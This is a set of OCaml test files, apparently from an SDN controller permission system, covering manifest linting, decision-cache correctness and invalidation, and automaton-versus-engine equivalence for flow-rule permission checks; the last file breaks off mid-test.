            (Filter_eval.eval Filter_eval.pure_env
               (Perm.filter_of m w.Diff.token)
               (Attrs.of_call w.Diff.call)))
        f.Lint.witnesses)
    op;
  let fs = Lint.lint_policy (dirty_policy ()) in
  Alcotest.(check bool) "overlapping-exclusive carries a confirmed overlap"
    true
    (List.exists
       (fun f -> f.Lint.rule = Lint.Overlapping_exclusive && f.Lint.witnesses <> [])
       fs);
  (* gate_count: witness-bearing findings collapse to one per rule;
     bare findings keep counting individually. *)
  let mk rule witnesses =
    { Lint.rule;
      severity = Lint.Warn;
      location = "here";
      message = "msg";
      suggestion = None;
      witnesses }
  in
  let w =
    match op with
    | f :: _ when f.Lint.witnesses <> [] -> f.Lint.witnesses
    | _ -> Alcotest.fail "no witness to build the gate_count fixture from"
  in
  let findings =
    [ mk Lint.Over_privilege w;
      mk Lint.Over_privilege w;
      mk Lint.Over_privilege w;
      mk Lint.Dead_binding [] ]
  in
  Alcotest.(check int) "plain count sees every finding" 4
    (Lint.count Lint.Warn findings);
  Alcotest.(check int) "gate_count collapses witnessed findings per rule" 2
    (Lint.gate_count Lint.Warn findings)

(* Toggles, budget, counters, renderers ---------------------------------------- *)

let test_rule_toggle () =
  let m = manifest (read_example "dirty.manifest") in
  let fs = Lint.lint_manifest ~rules:[ Lint.Unsatisfiable_filter ] m in
  Alcotest.(check bool) "selected rule runs" true
    (Lint.has_rule Lint.Unsatisfiable_filter fs);
  Alcotest.(check bool) "others off" true
    (List.for_all (fun f -> f.Lint.rule = Lint.Unsatisfiable_filter) fs)

let test_budget_degrades_to_info () =
  let m = manifest (read_example "dirty.manifest") in
  let limits = { Budget.default_limits with Budget.max_steps = 1 } in
  let fs = Lint.lint_manifest ~limits m in
  Alcotest.(check bool) "some unverified findings" true (fs <> []);
  List.iter
    (fun f ->
      Alcotest.(check string)
        "severity is info" "info"
        (Lint.severity_label f.Lint.severity);
      Alcotest.(check bool) "message says unverified" true
        (Test_vetting.contains ~affix:"unverified" f.Lint.message))
    fs

let test_counters_reach_telemetry () =
  Lint.reset_counters ();
  let m = manifest (read_example "dirty.manifest") in
  ignore (Lint.lint_manifest m);
  let stats = Lint.stats () in
  let count name =
    match List.assoc_opt name stats with Some n -> n | None -> 0
  in
  Alcotest.(check bool) "error counter bumped" true
    (count "lint-error:unsatisfiable-filter" >= 1);
  Alcotest.(check bool) "warn counter bumped" true
    (count "lint-warn:vacuous-filter" >= 1);
  (* The counters are ordinary registry gauges, so they flow into
     Metrics.gauge_report, Telemetry.snapshot and the Prometheus
     export without further wiring. *)
  let gauges = Metrics.gauge_report () in
  Alcotest.(check bool) "registered as a gauge" true
    (List.mem_assoc "lint-error:unsatisfiable-filter" gauges);
  let snap = Telemetry.snapshot () in
  Alcotest.(check bool) "prometheus export carries lint" true
    (Test_vetting.contains ~affix:"unsatisfiable_filter"
       (Telemetry.to_prometheus snap)
    || Test_vetting.contains ~affix:"unsatisfiable-filter"
         (Telemetry.to_prometheus snap))

let test_sarif_roundtrip () =
  let m = manifest (read_example "dirty.manifest") in
  let fs = Lint.lint_manifest m in
  let sarif = Lint.to_sarif ~uri:"dirty.manifest" fs in
  match Json.of_string sarif with
  | Error e -> Alcotest.failf "sarif does not re-parse: %s" e
  | Ok json -> (
    match Json.member "runs" json with
    | Some (Json.Arr [ run ]) -> (
      match Json.member "results" run with
      | Some (Json.Arr results) ->
        Alcotest.(check int) "one result per finding" (List.length fs)
          (List.length results);
        let levels =
          List.filter_map
            (fun r ->
              match Json.member "level" r with
              | Some (Json.Str l) -> Some l
              | _ -> None)
            results
        in
        Alcotest.(check bool) "error level present" true
          (List.mem "error" levels);
        List.iter
          (fun l ->
            if not (List.mem l [ "error"; "warning"; "note" ]) then
              Alcotest.failf "non-SARIF level %s" l)
          levels
      | _ -> Alcotest.fail "no results array")
    | _ -> Alcotest.fail "expected one run")

(* Vetting integration --------------------------------------------------------- *)

let test_vetting_carries_lint () =
  match Vetting.vet_manifest (read_example "dirty.manifest") with
  | Vetting.Admitted { Vetting.lint; _ } ->
    Alcotest.(check bool) "dirty manifest admitted with findings" true
      (Lint.count Lint.Error lint >= 1)
  | v -> Alcotest.failf "expected admitted, got %s" (Vetting.verdict_label v)

let test_vet_and_reconcile_counts_stubs_live () =
  (* The policy's stub macro is referenced by the app manifest, so the
     aggregated pipeline must not report it dead. *)
  let policy_src =
    "LET guard = { IP_DST 10.0.0.0 MASK 255.0.0.0 }\n\
     LET a = APP app\n\
     ASSERT a <= { PERM insert_flow }"
  in
  let app_src = "PERM insert_flow LIMITING guard" in
  match Vetting.vet_and_reconcile ~apps:[ ("app", app_src) ] policy_src with
  | Vetting.Admitted { Vetting.lint; _ }
  | Vetting.Degraded ({ Vetting.lint; _ }, _) ->
    Alcotest.(check bool) "stub used by the app manifest is live" false
      (List.exists
         (fun f -> Test_vetting.contains ~affix:"guard" f.Lint.message)
         lint)
  | Vetting.Rejected r ->
    Alcotest.failf "rejected: %s" (Fmt.str "%a" Vetting.pp_rejection r)

(* Properties ------------------------------------------------------------------ *)

let qsuite =
  [ QCheck.Test.make ~count:200
      ~name:"Infer.of_trace is lint-clean against its own trace"
      (QCheck.list_of_size (QCheck.Gen.int_range 1 20) Test_filters.call_arb)
      (fun trace ->
        let m = Infer.of_trace trace in
        not (Lint.has_rule Lint.Over_privilege (Lint.lint_manifest ~trace m)));
    QCheck.Test.make ~count:200 ~name:"lint never raises on hostile ASTs"
      QCheck.(pair small_nat (int_range 1 200))
      (fun (seed, size) ->
        let rng = Prng.of_int seed in
        let f = Hostile.random_hostile_ast rng ~size in
        let m = Hostile.manifest_of_filter f in
        ignore (Lint.lint_manifest m);
        true);
    QCheck.Test.make ~count:50
      ~name:"lint-dirty generators always cover their rules"
      QCheck.small_nat
      (fun seed ->
        let m =
          Test_util.manifest_exn (Hostile.lint_dirty_manifest_src ~seed)
        in
        let p =
          match
            Policy_parser.of_string (Hostile.lint_dirty_policy_src ~seed)
          with
          | Ok p -> p
          | Error e -> QCheck.Test.fail_reportf "policy parse: %s" e
        in
        let mf = Lint.lint_manifest m and pf = Lint.lint_policy p in
        List.for_all
          (fun r -> Lint.has_rule r mf)
          [ Lint.Unsatisfiable_filter; Lint.Vacuous_filter;
            Lint.Shadowed_clause; Lint.Redundant_refinement ]
        && List.for_all
             (fun r -> Lint.has_rule r pf)
             [ Lint.Dead_binding; Lint.Self_meet_join;
               Lint.Overlapping_exclusive ]) ]

let suite =
  [ Alcotest.test_case "rule ids and severities" `Quick test_rule_ids;
    Alcotest.test_case "unsatisfiable filter" `Quick test_unsatisfiable;
    Alcotest.test_case "vacuous filter" `Quick test_vacuous;
    Alcotest.test_case "shadowed clause" `Quick test_shadowed;
    Alcotest.test_case "redundant refinement" `Quick test_redundant;
    Alcotest.test_case "over-privilege audit" `Quick test_over_privilege;
    Alcotest.test_case "dead bindings" `Quick test_dead_binding;
    Alcotest.test_case "self MEET/JOIN" `Quick test_self_meet_join;
    Alcotest.test_case "overlapping EITHER" `Quick test_overlapping_exclusive;
    Alcotest.test_case "witness-bearing findings and gate_count" `Quick
      test_witnesses_and_gate_count;
    Alcotest.test_case "rule toggles" `Quick test_rule_toggle;
    Alcotest.test_case "budget degrades to Info" `Quick
      test_budget_degrades_to_info;
    Alcotest.test_case "counters reach telemetry" `Quick
      test_counters_reach_telemetry;
    Alcotest.test_case "SARIF round-trip" `Quick test_sarif_roundtrip;
    Alcotest.test_case "vetting carries lint" `Quick test_vetting_carries_lint;
    Alcotest.test_case "pipeline sees app stubs as live" `Quick
      test_vet_and_reconcile_counts_stubs_live ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
