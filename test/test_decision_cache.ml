(* Decision-cache tests: static cacheability classification, signature
   canonicalization, hit/miss/invalidation accounting, the
   generation-counter invalidation edge, and — the load-bearing
   property — that cached and uncached checkers produce identical
   decision streams, stateful manifests and ownership-mutating
   flow-mods included (docs/CACHING.md). *)

open Shield_openflow
open Shield_controller
open Sdnshield

let ip = Test_util.ip

let insert ?(dpid = 1) ?(priority = 100) ?(cookie = 0) ?(nw_dst = "10.13.1.2")
    ?(actions = [ Action.Output 1 ]) () =
  Api.Install_flow
    ( dpid,
      Flow_mod.add ~priority ~cookie
        ~match_:
          (Match_fields.make ~dl_type:Types.Eth_ip
             ~nw_dst:(Match_fields.exact_ip (ip nw_dst))
             ())
        ~actions () )

(* Classification ---------------------------------------------------------- *)

let test_classify () =
  let stateless src =
    Alcotest.(check bool)
      (src ^ " stateless") true
      (Decision_cache.classify (Test_util.filter_exn src) = Decision_cache.Stateless)
  and stateful src =
    Alcotest.(check bool)
      (src ^ " stateful") true
      (Decision_cache.classify (Test_util.filter_exn src) = Decision_cache.Stateful)
  in
  stateless "IP_DST 10.0.0.0 MASK 255.0.0.0";
  stateless "ACTION DROP";
  stateless "MAX_PRIORITY 100";
  stateless "ALL_FLOWS";
  stateful "OWN_FLOWS";
  stateful "MAX_RULE_COUNT 10";
  (* Negation does not remove the state dependence. *)
  stateful "NOT OWN_FLOWS";
  stateful "IP_DST 10.0.0.0 MASK 255.0.0.0 AND MAX_RULE_COUNT 5"

(* Canonicalization -------------------------------------------------------- *)

let test_key_canonicalization () =
  let fp = Decision_cache.footprint (Test_util.filter_exn "IP_DST 10.0.0.0 MASK 255.0.0.0") in
  let key call =
    Decision_cache.key_of ~token:Token.Insert_flow fp (Attrs.of_call call)
  in
  (* The filter only inspects IP_DST: priority/action variation projects
     onto the same signature... *)
  Alcotest.(check bool) "priority irrelevant" true
    (key (insert ~priority:1 ()) = key (insert ~priority:999 ()));
  Alcotest.(check bool) "actions irrelevant" true
    (key (insert ()) = key (insert ~actions:[] ()));
  (* ...while the inspected dimension and the call's dpid discriminate. *)
  Alcotest.(check bool) "nw_dst discriminates" false
    (key (insert ()) = key (insert ~nw_dst:"10.14.1.2" ()));
  Alcotest.(check bool) "dpid discriminates" false
    (key (insert ()) = key (insert ~dpid:2 ()))

(* Counter accounting ------------------------------------------------------ *)

let cached_engine ?(record_state = true) ?(cache_size = 64)
    ?(ownership = Ownership.create ()) src =
  Engine.create ~record_state ~cache_size ~ownership ~app_name:"cached"
    ~cookie:1 (Test_util.manifest_exn src)

let stats_exn e =
  match Engine.cache_stats e with
  | Some s -> s
  | None -> Alcotest.fail "cached engine reports no cache stats"

let test_hit_miss_counting () =
  let e = cached_engine "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0" in
  ignore (Engine.check e (insert ()));
  let s = stats_exn e in
  Alcotest.(check int) "first check misses" 1 s.Metrics.misses;
  Alcotest.(check int) "no hit yet" 0 s.Metrics.hits;
  ignore (Engine.check e (insert ()));
  ignore (Engine.check e (insert ()));
  let s = stats_exn e in
  Alcotest.(check int) "repeats hit" 2 s.Metrics.hits;
  Alcotest.(check int) "still one miss" 1 s.Metrics.misses

let test_bypass_counting () =
  (* A token the manifest does not grant bypasses the cache. *)
  let cache = Decision_cache.create (Test_util.manifest_exn "PERM insert_flow") in
  let evals = ref 0 in
  let eval _ = incr evals; true in
  ignore
    (Decision_cache.check cache ~token:Token.Read_statistics
       ~call:(Api.Read_stats (Stats.request Stats.Port_level)) ~eval);
  ignore
    (Decision_cache.check cache ~token:Token.Read_statistics
       ~call:(Api.Read_stats (Stats.request Stats.Port_level)) ~eval);
  let s = Decision_cache.stats cache in
  Alcotest.(check int) "bypasses counted" 2 s.Metrics.bypasses;
  Alcotest.(check int) "bypass always evaluates" 2 !evals;
  Alcotest.(check int) "bypass caches nothing" 0 (Decision_cache.size cache)

let test_stateless_survives_mutation () =
  (* A stateless filter's entries are not generation-gated: ownership
     recording (which bumps the generation) must not invalidate them. *)
  let e = cached_engine "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0" in
  Test_util.check_allow "first" (Engine.check e (insert ()));
  Test_util.check_allow "second" (Engine.check e (insert ()));
  let s = stats_exn e in
  Alcotest.(check int) "second check hits despite recording" 1 s.Metrics.hits;
  Alcotest.(check int) "no invalidations" 0 s.Metrics.invalidations

(* Generation invalidation ------------------------------------------------- *)

let test_generation_invalidation_edge () =
  (* Deny while another app's overlapping rule exists; the moment that
     rule leaves the store, the cached denial must die with it. *)
  let ownership = Ownership.create () in
  let e = cached_engine ~ownership "PERM insert_flow LIMITING OWN_FLOWS" in
  let other_match =
    Match_fields.make ~dl_type:Types.Eth_ip
      ~nw_dst:(Match_fields.exact_ip (ip "10.13.1.2"))
      ()
  in
  Ownership.record ownership ~dpid:1
    (Flow_mod.add ~priority:100 ~cookie:2 ~match_:other_match ~actions:[] ())
    ~cookie:2;
  Test_util.check_deny "overlaps another app's rule" (Engine.check e (insert ()));
  Test_util.check_deny "denial is cached" (Engine.check e (insert ()));
  let before = stats_exn e in
  Ownership.forget ownership ~dpid:1 ~match_:other_match ~cookie:2;
  Test_util.check_allow "allowed once the rule is gone"
    (Engine.check e (insert ()));
  let after = stats_exn e in
  Alcotest.(check bool) "stale entry invalidated" true
    (after.Metrics.invalidations > before.Metrics.invalidations)

let test_rule_budget_invalidation () =
  let ownership = Ownership.create () in
  let e = cached_engine ~ownership "PERM insert_flow LIMITING MAX_RULE_COUNT 2" in
  Test_util.check_allow "1st rule" (Engine.check e (insert ~nw_dst:"10.0.0.1" ()));
  Test_util.check_allow "2nd rule" (Engine.check e (insert ~nw_dst:"10.0.0.2" ()));
  (* The budget is now exhausted; the earlier Allow for 10.0.0.1 was
     cached at an older generation and must not resurface as a stale
     answer for a *new* add of the same shape. *)
  Test_util.check_deny "3rd rule over budget"
    (Engine.check e (insert ~nw_dst:"10.0.0.3" ()))

(* Equivalence properties --------------------------------------------------- *)

let same_polarity (a : Api.decision) (b : Api.decision) =
  match (a, b) with
  | Api.Allow, Api.Allow | Api.Deny _, Api.Deny _ -> true
  | _ -> false

(** Run [calls] through a fresh engine over [m]; [cache_size] as given.
    Each engine gets its own store so the streams stay comparable. *)
let decisions ?cache_size m calls =
  let e =
    Engine.create ?cache_size
      ~ownership:(Ownership.create ())
      ~app_name:"equiv" ~cookie:1 m
  in
  List.map (Engine.check e) calls

let qsuite =
  let count = 300 in
  let calls_arb =
    QCheck.list_of_size (QCheck.Gen.int_range 1 30) Test_filters.call_arb
  in
  [ QCheck.Test.make ~count
      ~name:"cached engine == uncached engine (stateful, recording on)"
      (QCheck.pair Test_perm_ops.manifest_arb calls_arb)
      (fun (m, calls) ->
        (* cache_size 8: a tiny L1 forces collisions and displacement,
           and the L2 flush-on-full path runs — correctness must not
           depend on capacity. *)
        List.for_all2 same_polarity
          (decisions ~cache_size:8 m calls)
          (decisions m calls));
    QCheck.Test.make ~count
      ~name:"cached compiled == uncached compiled"
      (QCheck.pair Test_perm_ops.manifest_arb calls_arb)
      (fun (m, calls) ->
        let run c = List.map (Compiled.check c) calls in
        List.for_all2 same_polarity
          (run (Compiled.of_manifest ~cache_size:8 m))
          (run (Compiled.of_manifest m))) ]

(* Rapid generation bumps --------------------------------------------------- *)

(* A lookup that captured its generation just before a burst of bumps
   is the *stale* party: it must neither be served a fresher-tagged
   entry (invariant I2) nor destroy or overwrite one (the
   rapid-churn fix — without it, back-to-back bumps racing with
   lookups degenerated the cache into never holding a current entry).
   The generation source here is scripted, standing in for the
   interleavings a live [Ownership] store produces. *)
let test_stale_lookup_preserves_fresher_entries () =
  let gen = ref 5 in
  let cache =
    Decision_cache.create ~max_entries:64 ~generation:(fun () -> !gen)
      (Test_util.manifest_exn "PERM insert_flow LIMITING OWN_FLOWS")
  in
  let call = insert () in
  let check ~eval =
    Decision_cache.check cache ~token:Token.Insert_flow ~call ~eval
  in
  Alcotest.(check bool) "entry cached at generation 5" true
    (check ~eval:(fun _ -> true));
  let before = Decision_cache.stats cache in
  (* A straggler whose captured generation (3) is behind the entry's
     tag (5): decided by evaluation, and the tag-5 entry survives. *)
  gen := 3;
  Alcotest.(check bool) "stale lookup decides by evaluation" false
    (check ~eval:(fun _ -> false));
  let after = Decision_cache.stats cache in
  Alcotest.(check int) "stale lookup invalidates nothing"
    before.Metrics.invalidations after.Metrics.invalidations;
  gen := 5;
  Alcotest.(check bool) "fresher entry survived the straggler" true
    (check ~eval:(fun _ -> Alcotest.fail "tag-5 entry was destroyed"));
  (* A genuinely newer lookup still kills the now-stale entry. *)
  gen := 7;
  Alcotest.(check bool) "newer lookup re-evaluates" false
    (check ~eval:(fun _ -> false));
  let final = Decision_cache.stats cache in
  Alcotest.(check bool) "genuinely stale entry invalidated" true
    (final.Metrics.invalidations > after.Metrics.invalidations)

(* The no-stale-serve property under *racing* bumps: decisions flip at
   generation [k]; once an observer has seen the counter at [>= k], no
   lookup may ever return the pre-flip decision.  Any stale serve of
   an entry cached at generation [g] during a later generation [g + j]
   violates exactly this (the entry's cached value is the pre-flip one
   iff its tag is [< k], and tags equal captured generations).  One
   domain bumps as fast as it can; the observer hammers a small
   working set so L1 and L2 both serve under the races. *)
let qsuite_generation_race =
  [ QCheck.Test.make ~count:20
      ~name:"no stale serve under racing generation bumps"
      QCheck.(pair (int_range 1 400) (int_range 0 3))
      (fun (k, call_salt) ->
        let g = Atomic.make 0 in
        let total = k + 400 in
        let cache =
          Decision_cache.create ~max_entries:64
            ~generation:(fun () -> Atomic.get g)
            (Test_util.manifest_exn "PERM insert_flow LIMITING OWN_FLOWS")
        in
        let calls =
          Array.init 4 (fun i ->
              insert ~nw_dst:(Printf.sprintf "10.13.%d.2" (i + call_salt)) ())
        in
        let eval _ = Atomic.get g >= k in
        let bumper () =
          for _ = 1 to total do
            Atomic.incr g;
            Domain.cpu_relax ()
          done
        in
        let observer () =
          let violations = ref 0 in
          let i = ref 0 in
          while Atomic.get g < total do
            let before = Atomic.get g in
            let served =
              Decision_cache.check cache ~token:Token.Insert_flow
                ~call:calls.(!i land 3) ~eval
            in
            (* Monotonicity: any generation captured inside the lookup
               is >= [before]; if [before >= k] a fresh evaluation
               returns [true], and every entry tagged >= k holds
               [true] — so [false] here is a served stale entry. *)
            if before >= k && not served then incr violations;
            incr i
          done;
          !violations
        in
        let b = Domain.spawn bumper in
        let violations = observer () in
        Domain.join b;
        violations = 0) ]

(* Domain parallelism ------------------------------------------------------ *)

(* Two domains hammering one cache: the L1 is per-slot atomics, so
   concurrent readers/writers may displace each other but must never
   answer differently from re-evaluation (the [Isolated_domains] KSD
   pool shares a checker — and its cache — across domains).  A tiny
   table forces both L1 collisions and L2 flush-on-full under
   contention. *)
let test_domain_hammer () =
  let m =
    Test_util.manifest_exn
      "PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0"
  in
  let cache = Decision_cache.create ~max_entries:64 m in
  let n = 256 in
  let calls =
    Array.init n (fun i ->
        insert
          ~dpid:(1 + (i mod 4))
          ~nw_dst:(Printf.sprintf "10.%d.%d.1" (i / 16) (i mod 16))
          ())
  in
  (* Deterministic per-call oracle: a hit is correct iff it returns
     exactly what re-evaluation would. *)
  let expected i = i mod 3 <> 0 in
  let check i =
    Decision_cache.check cache ~token:Token.Insert_flow ~call:calls.(i)
      ~eval:(fun _ -> expected i)
  in
  let hammer stride () =
    let ok = ref true in
    for round = 0 to 149 do
      for j = 0 to n - 1 do
        let i = (j + (round * stride)) mod n in
        if check i <> expected i then ok := false
      done
    done;
    !ok
  in
  let d1 = Domain.spawn (hammer 7) and d2 = Domain.spawn (hammer 13) in
  let ok1 = Domain.join d1 and ok2 = Domain.join d2 in
  Alcotest.(check bool) "domain 1 saw only correct decisions" true ok1;
  Alcotest.(check bool) "domain 2 saw only correct decisions" true ok2;
  Alcotest.(check bool) "post-hammer serial pass agrees" true
    (List.for_all (fun i -> check i = expected i) (List.init n Fun.id))

let suite =
  [ Alcotest.test_case "classify" `Quick test_classify;
    Alcotest.test_case "key canonicalization" `Quick test_key_canonicalization;
    Alcotest.test_case "hit/miss counting" `Quick test_hit_miss_counting;
    Alcotest.test_case "bypass counting" `Quick test_bypass_counting;
    Alcotest.test_case "stateless survives mutation" `Quick
      test_stateless_survives_mutation;
    Alcotest.test_case "generation invalidation edge" `Quick
      test_generation_invalidation_edge;
    Alcotest.test_case "rule budget invalidation" `Quick
      test_rule_budget_invalidation;
    Alcotest.test_case "stale lookup preserves fresher entries" `Quick
      test_stale_lookup_preserves_fresher_entries;
    Alcotest.test_case "two-domain hammer on the atomic L1" `Quick
      test_domain_hammer ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false)
      (qsuite @ qsuite_generation_race)
