(* The decision automaton must agree exactly with the interpreting
   engine and the closure-compiled checker: stateless decisions over
   random manifests × calls, batched vs. one-at-a-time verdicts,
   stateful (ownership/rule-budget) manifests under live mutation,
   cache-fronted automata across generation invalidations, and the
   leaf-mapped explanations against [Filter_eval.explain]'s wording. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_controller
open Shield_workload
open Sdnshield

let manifest = Test_util.manifest_exn
let ip = ipv4_of_string

let same_verdict d1 d2 =
  match (d1, d2) with
  | Api.Allow, Api.Allow | Api.Deny _, Api.Deny _ -> true
  | _ -> false

(* Engine (interpreted), Compiled, Automaton, and an Engine running the
   automaton strategy must all agree on stateless decisions. *)
let four_way_agree m call =
  let engine =
    Engine.create ~record_state:false
      ~ownership:(Ownership.create ())
      ~app_name:"cmp" ~cookie:1 m
  in
  let engine_a =
    Engine.create ~record_state:false ~strategy:`Automaton
      ~ownership:(Ownership.create ())
      ~app_name:"cmp-a" ~cookie:1 m
  in
  let compiled = Compiled.of_manifest m in
  let automaton = Automaton.of_manifest m in
  let d = Engine.check engine call in
  same_verdict d (Compiled.check compiled call)
  && same_verdict d (Automaton.check automaton call)
  && same_verdict d (Engine.check engine_a call)

let test_automaton_basic () =
  let m =
    manifest
      "PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0 AND \
       MAX_PRIORITY 60000\n\
       PERM read_statistics LIMITING FLOW_LEVEL OR PORT_LEVEL"
  in
  let a = Automaton.of_manifest m in
  let insert nw_dst priority =
    Api.Install_flow
      ( 1,
        Flow_mod.add ~priority ~cookie:1
          ~match_:
            (Match_fields.make ~dl_type:Eth_ip
               ~nw_dst:(Match_fields.exact_ip (ip nw_dst))
               ())
          ~actions:[ Action.Output 1 ] () )
  in
  (match Automaton.check a (insert "10.13.1.2" 100) with
  | Api.Allow -> ()
  | Api.Deny why -> Alcotest.failf "conforming insert denied: %s" why);
  (match Automaton.check a (insert "10.14.1.2" 100) with
  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.fail "outside subnet should be denied");
  (match Automaton.check a (insert "10.13.1.2" 61000) with
  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.fail "over-priority should be denied");
  (match Automaton.check a (Api.Read_stats (Stats.request Stats.Port_level)) with
  | Api.Allow -> ()
  | Api.Deny _ -> Alcotest.fail "port-level stats should pass");
  (match Automaton.check a (Api.Read_stats (Stats.request Stats.Switch_level)) with
  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.fail "switch-level stats should fail");
  (match Automaton.check a Api.Read_topology with
  | Api.Deny why ->
    Alcotest.(check string)
      "missing-token message matches the engine's"
      "missing permission visible_topology" why
  | Api.Allow -> Alcotest.fail "missing token should fail");
  Alcotest.(check bool) "granted insert" true (Automaton.granted a Token.Insert_flow);
  Alcotest.(check bool)
    "not granted topology" false
    (Automaton.granted a Token.Visible_topology);
  let checks, denials = Automaton.stats a in
  Alcotest.(check int) "checks counted" 6 checks;
  Alcotest.(check int) "denials counted" 4 denials

(* Hash-consing must actually share: a manifest that repeats one filter
   across many tokens compiles to the node count of a single copy. *)
let test_subtree_sharing () =
  let filter =
    "IP_DST 10.0.0.0 MASK 255.0.0.0 AND MAX_PRIORITY 60000 AND TCP_DST 80"
  in
  let one = manifest (Printf.sprintf "PERM insert_flow LIMITING %s" filter) in
  let many =
    manifest
      (String.concat "\n"
         (List.map
            (fun tok -> Printf.sprintf "PERM %s LIMITING %s" tok filter)
            [ "insert_flow"; "delete_flow"; "send_packet_out"; "host_network" ]))
  in
  let s1 = Automaton.build_stats (Automaton.of_manifest one) in
  let s4 = Automaton.build_stats (Automaton.of_manifest many) in
  Alcotest.(check int) "four identical filters share every node" s1.Automaton.nodes
    s4.Automaton.nodes;
  Alcotest.(check bool) "sharing counted" true (s4.Automaton.shared > 0)

(* Interval fusion must preserve the conjunction-of-bounds semantics,
   including the vacuous pass on priority-less calls. *)
let test_priority_interval () =
  let m =
    manifest
      "PERM insert_flow LIMITING MAX_PRIORITY 60000 AND MIN_PRIORITY 100 AND \
       MAX_PRIORITY 50000"
  in
  let a = Automaton.of_manifest m in
  let e =
    Engine.create ~record_state:false
      ~ownership:(Ownership.create ())
      ~app_name:"prio" ~cookie:1 m
  in
  let insert priority =
    Api.Install_flow
      ( 1,
        Flow_mod.add ~priority ~cookie:1 ~match_:Match_fields.wildcard_all
          ~actions:[ Action.Output 1 ] () )
  in
  List.iter
    (fun p ->
      Alcotest.(check bool)
        (Printf.sprintf "priority %d agrees" p)
        true
        (same_verdict (Automaton.check a (insert p)) (Engine.check e (insert p))))
    [ 0; 99; 100; 50000; 50001; 60000; 65535 ]

(* Stateful manifests: ownership and rule budgets are read live through
   the environment, interleaved with mutations the engine records. *)
let test_stateful_ownership () =
  let ownership = Ownership.create () in
  let m =
    manifest
      "PERM insert_flow LIMITING OWN_FLOWS AND MAX_RULE_COUNT 2\n\
       PERM delete_flow LIMITING OWN_FLOWS"
  in
  let engine =
    Engine.create ~ownership ~app_name:"alice" ~cookie:1 m
    (* record_state defaults to true: approvals mutate the store *)
  in
  let env = Dispatch.env_of_ownership ~ownership ~cookie:1 in
  let a = Automaton.of_manifest ~env m in
  let insert nw_dst =
    Api.Install_flow
      ( 1,
        Flow_mod.add ~priority:100 ~cookie:1
          ~match_:
            (Match_fields.make ~dl_type:Eth_ip
               ~nw_dst:(Match_fields.exact_ip (ip nw_dst))
               ())
          ~actions:[ Action.Output 1 ] () )
  in
  let delete nw_dst =
    Api.Install_flow
      ( 1,
        Flow_mod.delete
          ~match_:(Match_fields.make ~nw_dst:(Match_fields.exact_ip (ip nw_dst)) ())
          () )
  in
  (* Check the automaton first at each step, against the same pre-state
     the engine's check-then-record will see. *)
  let agree label call =
    let da = Automaton.check a call in
    let de = Engine.check engine call in
    Alcotest.(check bool) label true (same_verdict da de)
  in
  agree "first insert" (insert "10.0.0.1");
  agree "second insert" (insert "10.0.0.2");
  (* Budget is 2 and alice now owns 2 rules: both must deny. *)
  (match Automaton.check a (insert "10.0.0.3") with
  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.fail "rule budget exceeded: automaton must deny");
  agree "third insert over budget" (insert "10.0.0.3");
  (* A foreign rule appears: deleting it violates OWN_FLOWS for both. *)
  Ownership.record ownership ~dpid:1
    (Flow_mod.add ~priority:5 ~cookie:2
       ~match_:(Match_fields.make ~nw_dst:(Match_fields.exact_ip (ip "10.9.9.9")) ())
       ~actions:[] ())
    ~cookie:2;
  agree "delete own flow" (delete "10.0.0.1");
  agree "delete foreign flow" (delete "10.9.9.9")

(* A cache-fronted automaton must invalidate stateful entries on
   ownership mutation (generation gating), not serve stale verdicts. *)
let test_cache_invalidation_rebuild () =
  let ownership = Ownership.create () in
  let m = manifest "PERM insert_flow LIMITING MAX_RULE_COUNT 1" in
  let env = Dispatch.env_of_ownership ~ownership ~cookie:1 in
  let a =
    Automaton.of_manifest ~env ~cache_size:64
      ~generation:(fun () -> Ownership.generation ownership)
      m
  in
  let fm =
    Flow_mod.add ~priority:100 ~cookie:1
      ~match_:(Match_fields.make ~nw_dst:(Match_fields.exact_ip (ip "10.0.0.1")) ())
      ~actions:[ Action.Output 1 ] ()
  in
  let call = Api.Install_flow (1, fm) in
  (match Automaton.check a call with
  | Api.Allow -> ()
  | Api.Deny why -> Alcotest.failf "under budget, must allow: %s" why);
  (* The decision is now cached.  Fill the budget behind the cache's
     back; the generation gate must force re-evaluation. *)
  Ownership.record ownership ~dpid:1 fm ~cookie:1;
  (match Automaton.check a call with
  | Api.Deny _ -> ()
  | Api.Allow -> Alcotest.fail "stale cached ALLOW served after mutation")

(* Batched and one-at-a-time verdicts must be identical, including
   counters, on the generated workload traces. *)
let test_batch_matches_single_on_trace () =
  let m = Perm_gen.generate ~complexity:Medium ~focus:`Insert () in
  let calls =
    Array.map fst (Api_trace.generate ~focus:`Insert ~violation_rate:0.3 ~n:512 ())
  in
  let a1 = Automaton.of_manifest m and a2 = Automaton.of_manifest m in
  let singles = Array.map (Automaton.check a1) calls in
  let batched = Automaton.check_batch a2 calls in
  Alcotest.(check int) "same length" (Array.length singles) (Array.length batched);
  Array.iteri
    (fun i d ->
      if not (same_verdict d batched.(i)) then
        Alcotest.failf "verdict %d diverges between batch and single" i)
    singles;
  Alcotest.(check bool)
    "same counters" true
    (Automaton.stats a1 = Automaton.stats a2);
  (* Engine's batched entry point with the automaton strategy. *)
  let e =
    Engine.create ~record_state:false ~strategy:`Automaton
      ~ownership:(Ownership.create ())
      ~app_name:"batch" ~cookie:1 m
  in
  let via_engine = Engine.check_batch e calls in
  Array.iteri
    (fun i d ->
      if not (same_verdict d via_engine.(i)) then
        Alcotest.failf "engine batch verdict %d diverges" i)
    singles

(* Explanations: the DAG's leaf-to-clause mapping must reproduce
   [Filter_eval.explain]'s account exactly (the engine's wording). *)
let explanations_agree m call =
  let engine =
    Engine.create ~record_state:false
      ~ownership:(Ownership.create ())
      ~app_name:"exp" ~cookie:1 m
  in
  let a = Automaton.of_manifest m in
  let de, ie = Engine.check_explained engine call in
  let da, ia = Automaton.check_explained a call in
  same_verdict de da && ie.Api.explain = ia.Api.explain

let test_explanations_basic () =
  let m =
    manifest
      "PERM insert_flow LIMITING (IP_DST 10.13.0.0 MASK 255.255.0.0 AND \
